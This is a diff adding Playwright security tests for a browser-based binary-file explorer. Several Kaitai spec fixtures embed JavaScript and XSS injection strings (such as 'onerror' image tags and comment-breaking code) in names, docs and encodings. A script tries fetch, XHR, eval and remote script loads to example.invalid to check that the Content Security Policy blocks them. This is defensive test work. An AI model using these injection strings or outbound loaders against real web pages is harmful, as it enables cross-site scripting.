@@ -4,6 +4,7 @@ dropped, and that it says of damage what `segspec verify` says."""
 from __future__ import annotations
 
 import json
+import re
 import struct
 import subprocess
 import sys
@@ -372,3 +373,178 @@ def test_a_file_of_no_known_format_asks_for_one(page: Page, site: Path) -> None:
     expect(page.locator("#status")).to_contain_text("choose one")
     page.select_option("#format", "durable_log")
     expect(page.locator("#damage li")).to_have_attribute("data-code", "bad-magic")
+
+
+CODE = "*/ 0, globalThis.RAN='doc', /*"
+LINES = "\\n*/\\nglobalThis.RAN = 'lines';\\n/*\\u2028*/ globalThis.RAN = 2; //"
+DOCS_AS_CODE = f"""
+meta:
+  id: doc_is_code
+  title: "{CODE}"
+  application: "{CODE}"
+  license: "{CODE}"
+  endian: le
+doc: "{CODE}"
+doc-ref: ["{CODE}", "{LINES}"]
+-orig-id: "{CODE}"
+seq:
+  - {{id: first, type: u1, doc: "{CODE}", doc-ref: "{CODE}", -orig-id: "{CODE}", enum: kind}}
+  - {{id: doc, type: 'title(2)', doc: "{LINES}"}}
+  - {{id: word, type: str, size: 2, encoding: ASCII, doc: "<img src=x onerror=globalThis.RAN=1> `<b>`"}}
+instances:
+  twice: {{value: first.to_i * 2, doc: "{CODE}", doc-ref: "{CODE}"}}
+types:
+  title:
+    meta: {{title: "{CODE}"}}
+    doc: "{CODE}"
+    params:
+      - {{id: given, type: u1, doc: "{CODE}", doc-ref: "{CODE}"}}
+    seq:
+      - {{id: last, type: u1, doc: "{CODE}"}}
+enums:
+  kind:
+    1: {{id: one, doc: "{CODE}", doc-ref: "{LINES}", -orig-id: "{CODE}"}}
+    2: two
+"""
+
+
+def ran_in(page: Page) -> list[object]:
+    """What code of a stranger's left behind in the page and in its workers; None where nothing ran."""
+    return [page.evaluate("globalThis.RAN ?? null"), *(w.evaluate("globalThis.RAN ?? null") for w in page.workers)]
+
+
+def test_docs_that_try_to_be_code_are_shown_as_text_and_run_nowhere(page: Page, site: Path) -> None:
+    needs.npm("kaitai-struct-compiler")
+    page.goto((site / "explorer.html").as_uri())
+    content = b"\x01\x02<b"
+    dropped(page, ("doc_is_code.ksy", DOCS_AS_CODE.encode()), ("x.bin", content))
+    page.wait_for_function("explorer.isRead", timeout=60_000)
+    expect(page.locator("#damage li")).to_have_count(0)
+    assert len(page.workers) == 1
+    for at, path, doc in (
+        (0, "first", CODE),
+        (1, "doc.last", CODE),
+        (2, "word", "<img src=x onerror=globalThis.RAN=1> <b>"),
+    ):
+        page.evaluate(f"explorer.goTo({at})")
+        expect(page.locator("#details h2")).to_have_text(path)
+        expect(page.locator("#details .doc")).to_have_text(doc)
+    expect(page.locator("#details img")).to_have_count(0)
+    assert ran_in(page) == [None, None]
+
+
+@pytest.mark.parametrize(
+    ("spec", "said"),
+    [
+        ('meta: {id: a}\nseq: [{id: "x=globalThis.RAN=1;x", type: u1}]', "no name"),
+        ('meta: {id: "a*/globalThis.RAN=1/*"}\nseq: [{id: x, type: u1}]', "no name"),
+        ('meta: {id: a}\nenums: {e: {1: "a:1};globalThis.RAN=1;({b"}}', "no name"),
+        ('meta: {id: a}\nenums: {e: {"1:1};globalThis.RAN=1;({2": b}}', "no number"),
+        ('meta: {id: a}\nenums: {"e = globalThis.RAN = 1": {1: b}}', "no name"),
+        ('meta: {id: a}\ntypes: {"t(){}globalThis.RAN=1;//": {seq: [{id: x, type: u1}]}}', "no name"),
+        ('meta: {id: a}\ninstances: {"x(){};globalThis.RAN=1;//": {value: 1}}', "no name"),
+        ('meta: {id: a}\nparams: [{id: "x=globalThis.RAN=1", type: u1}]', "no name"),
+        ('meta: {id: a}\nseq: [{id: x, type: str, size: 1, encoding: "A\\"+(globalThis.RAN=1)+\\""}]', "no encoding"),
+        ('meta: {id: a, encoding: "A\\"+(globalThis.RAN=1)+\\""}\nseq: [{id: x, type: str, size: 1}]', "no encoding"),
+        (
+            'meta: {id: a}\ninstances: {x: {value: "[65].as<bytes>.to_s(\'A\\"+(globalThis.RAN=1)+\\"\')"}}',
+            "name of an enc",
+        ),
+        ("meta: {id: a, imports: [\"b');globalThis.RAN=1;('\"]}\nseq: [{id: x, type: u1}]", "no import"),
+        ("meta: {id: a}\nseq: [{id: x, size: 1, process: \"fetch('x')\"}]", "no process"),
+    ],
+)
+def test_a_name_that_tries_to_be_code_is_refused(page: Page, site: Path, spec: str, said: str) -> None:
+    needs.npm("kaitai-struct-compiler")
+    page.goto((site / "explorer.html").as_uri())
+    dropped(page, ("a.ksy", spec.encode()))
+    expect(page.locator("#status")).to_contain_text(said, timeout=60_000)
+    assert ran_in(page) == [None]
+
+
+SPEAKS = """
+globalThis.RAN = [];
+const tried = (name, step) => {
+  try { Promise.resolve(step()).then(() => RAN.push(name), () => 0); } catch { /* not allowed */ }
+};
+tried("fetch", () => fetch("https://example.invalid/?x", { mode: "no-cors" }));
+tried("own", () => fetch(location.href));
+tried("xhr", () => {
+  const asked = new XMLHttpRequest();
+  asked.open("GET", "https://example.invalid/", false);
+  asked.send();
+});
+tried("eval", () => (0, eval)("1"));
+tried("Function", () => new Function("return 1")());
+if (globalThis.importScripts) tried("import", () => importScripts("https://example.invalid/x.js"));
+if (globalThis.document) {
+  const there = (tag, more) => new Promise((go, fail) => {
+    const element = Object.assign(document.createElement(tag), more, { onload: go, onerror: fail });
+    document.body.append(element);
+  });
+  tried("img", () => there("img", { src: "https://example.invalid/x.png" }));
+  tried("script", () => there("script", { src: "https://example.invalid/x.js" }));
+  const inline = { text: "RAN.push('inline')" };
+  document.body.append(Object.assign(document.createElement("script"), inline));
+}
+"""
+
+
+def test_code_that_would_get_in_speaks_to_nobody(chromium: Browser, site: Path) -> None:
+    needs.npm("kaitai-struct-compiler")
+    context = chromium.new_context()
+    page = context.new_page()
+    asked: list[str] = []
+    refused: list[str] = []
+    context.on("request", lambda one: None if ours(one.url, site) else asked.append(one.url))
+    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
+    page.goto((site / "explorer.html").as_uri())
+    dropped(page, ("pointing.ksy", WITH_INSTANCES.encode()))
+    page.wait_for_function("explorer.own", timeout=60_000)
+    # As if a text of the spec had come through to the parsers.
+    page.evaluate("code => { for (const name in explorer.own.modules) explorer.own.modules[name] += code; }", SPEAKS)
+    dropped(page, ("x.bin", b"\x04\x00\x00\x00abc"))
+    page.wait_for_function("explorer.isRead", timeout=60_000)
+    (worker,) = page.workers
+    page.add_script_tag(url=(site / "site.js").as_uri())
+    page.evaluate(f"{{ {SPEAKS} }}")
+    page.wait_for_timeout(500)
+    assert worker.evaluate("globalThis.RAN") == []
+    assert page.evaluate("globalThis.RAN") == []
+    assert len(refused) >= 10
+    assert asked == []
+    context.close()
+
+
+MARKUP = b"<img src=x onerror=globalThis.RAN=1><script>globalThis.RAN=1</script>"
+
+
+def test_markup_in_payloads_and_names_of_files_stays_text(page: Page, site: Path) -> None:
+    page.goto((site / "explorer.html").as_uri())
+    header = struct.pack("<4sBBHQII", b"GOLD", 1, 0, 0, 0, len(MARKUP), zlib.crc32(MARKUP))
+    name = "<img src=x onerror=globalThis.RAN=1>\u202e'\"&.log"
+    dropped(page, (name, header + MARKUP))
+    page.select_option("#format", "durable_log")
+    page.wait_for_function("explorer.isRead")
+    expect(page.locator("#status")).to_contain_text(name)
+    page.evaluate("explorer.goTo(30)")
+    expect(page.locator("#details .value")).to_contain_text("<img src=x onerror=globalThis.RAN=1>")
+    expect(page.locator("#explorer img, #explorer script")).to_have_count(0)
+    assert ran_in(page) == [None, None]
+
+
+def test_markup_in_kafka_keys_and_headers_stays_text(page: Page, site: Path) -> None:
+    content = place("kafka/none-0/00000000000000000000.log").read_bytes()
+    texts = set(re.findall(rb"[a-z]{6,}", content))
+    assert texts
+    for text in texts:
+        content = content.replace(text, b"<b>" + text[3:])
+    page.goto((site / "explorer.html").as_uri())
+    dropped(page, ("00000000000000000000.log", content))
+    page.select_option("#format", "kafka")
+    page.wait_for_function("explorer.isRead")
+    at = content.index(b"<b>")
+    page.evaluate(f"explorer.goTo({at})")
+    expect(page.locator("#details .value")).to_contain_text("<b>")
+    expect(page.locator("#explorer b, #explorer img")).to_have_count(0)
+    assert ran_in(page) == [None, None]
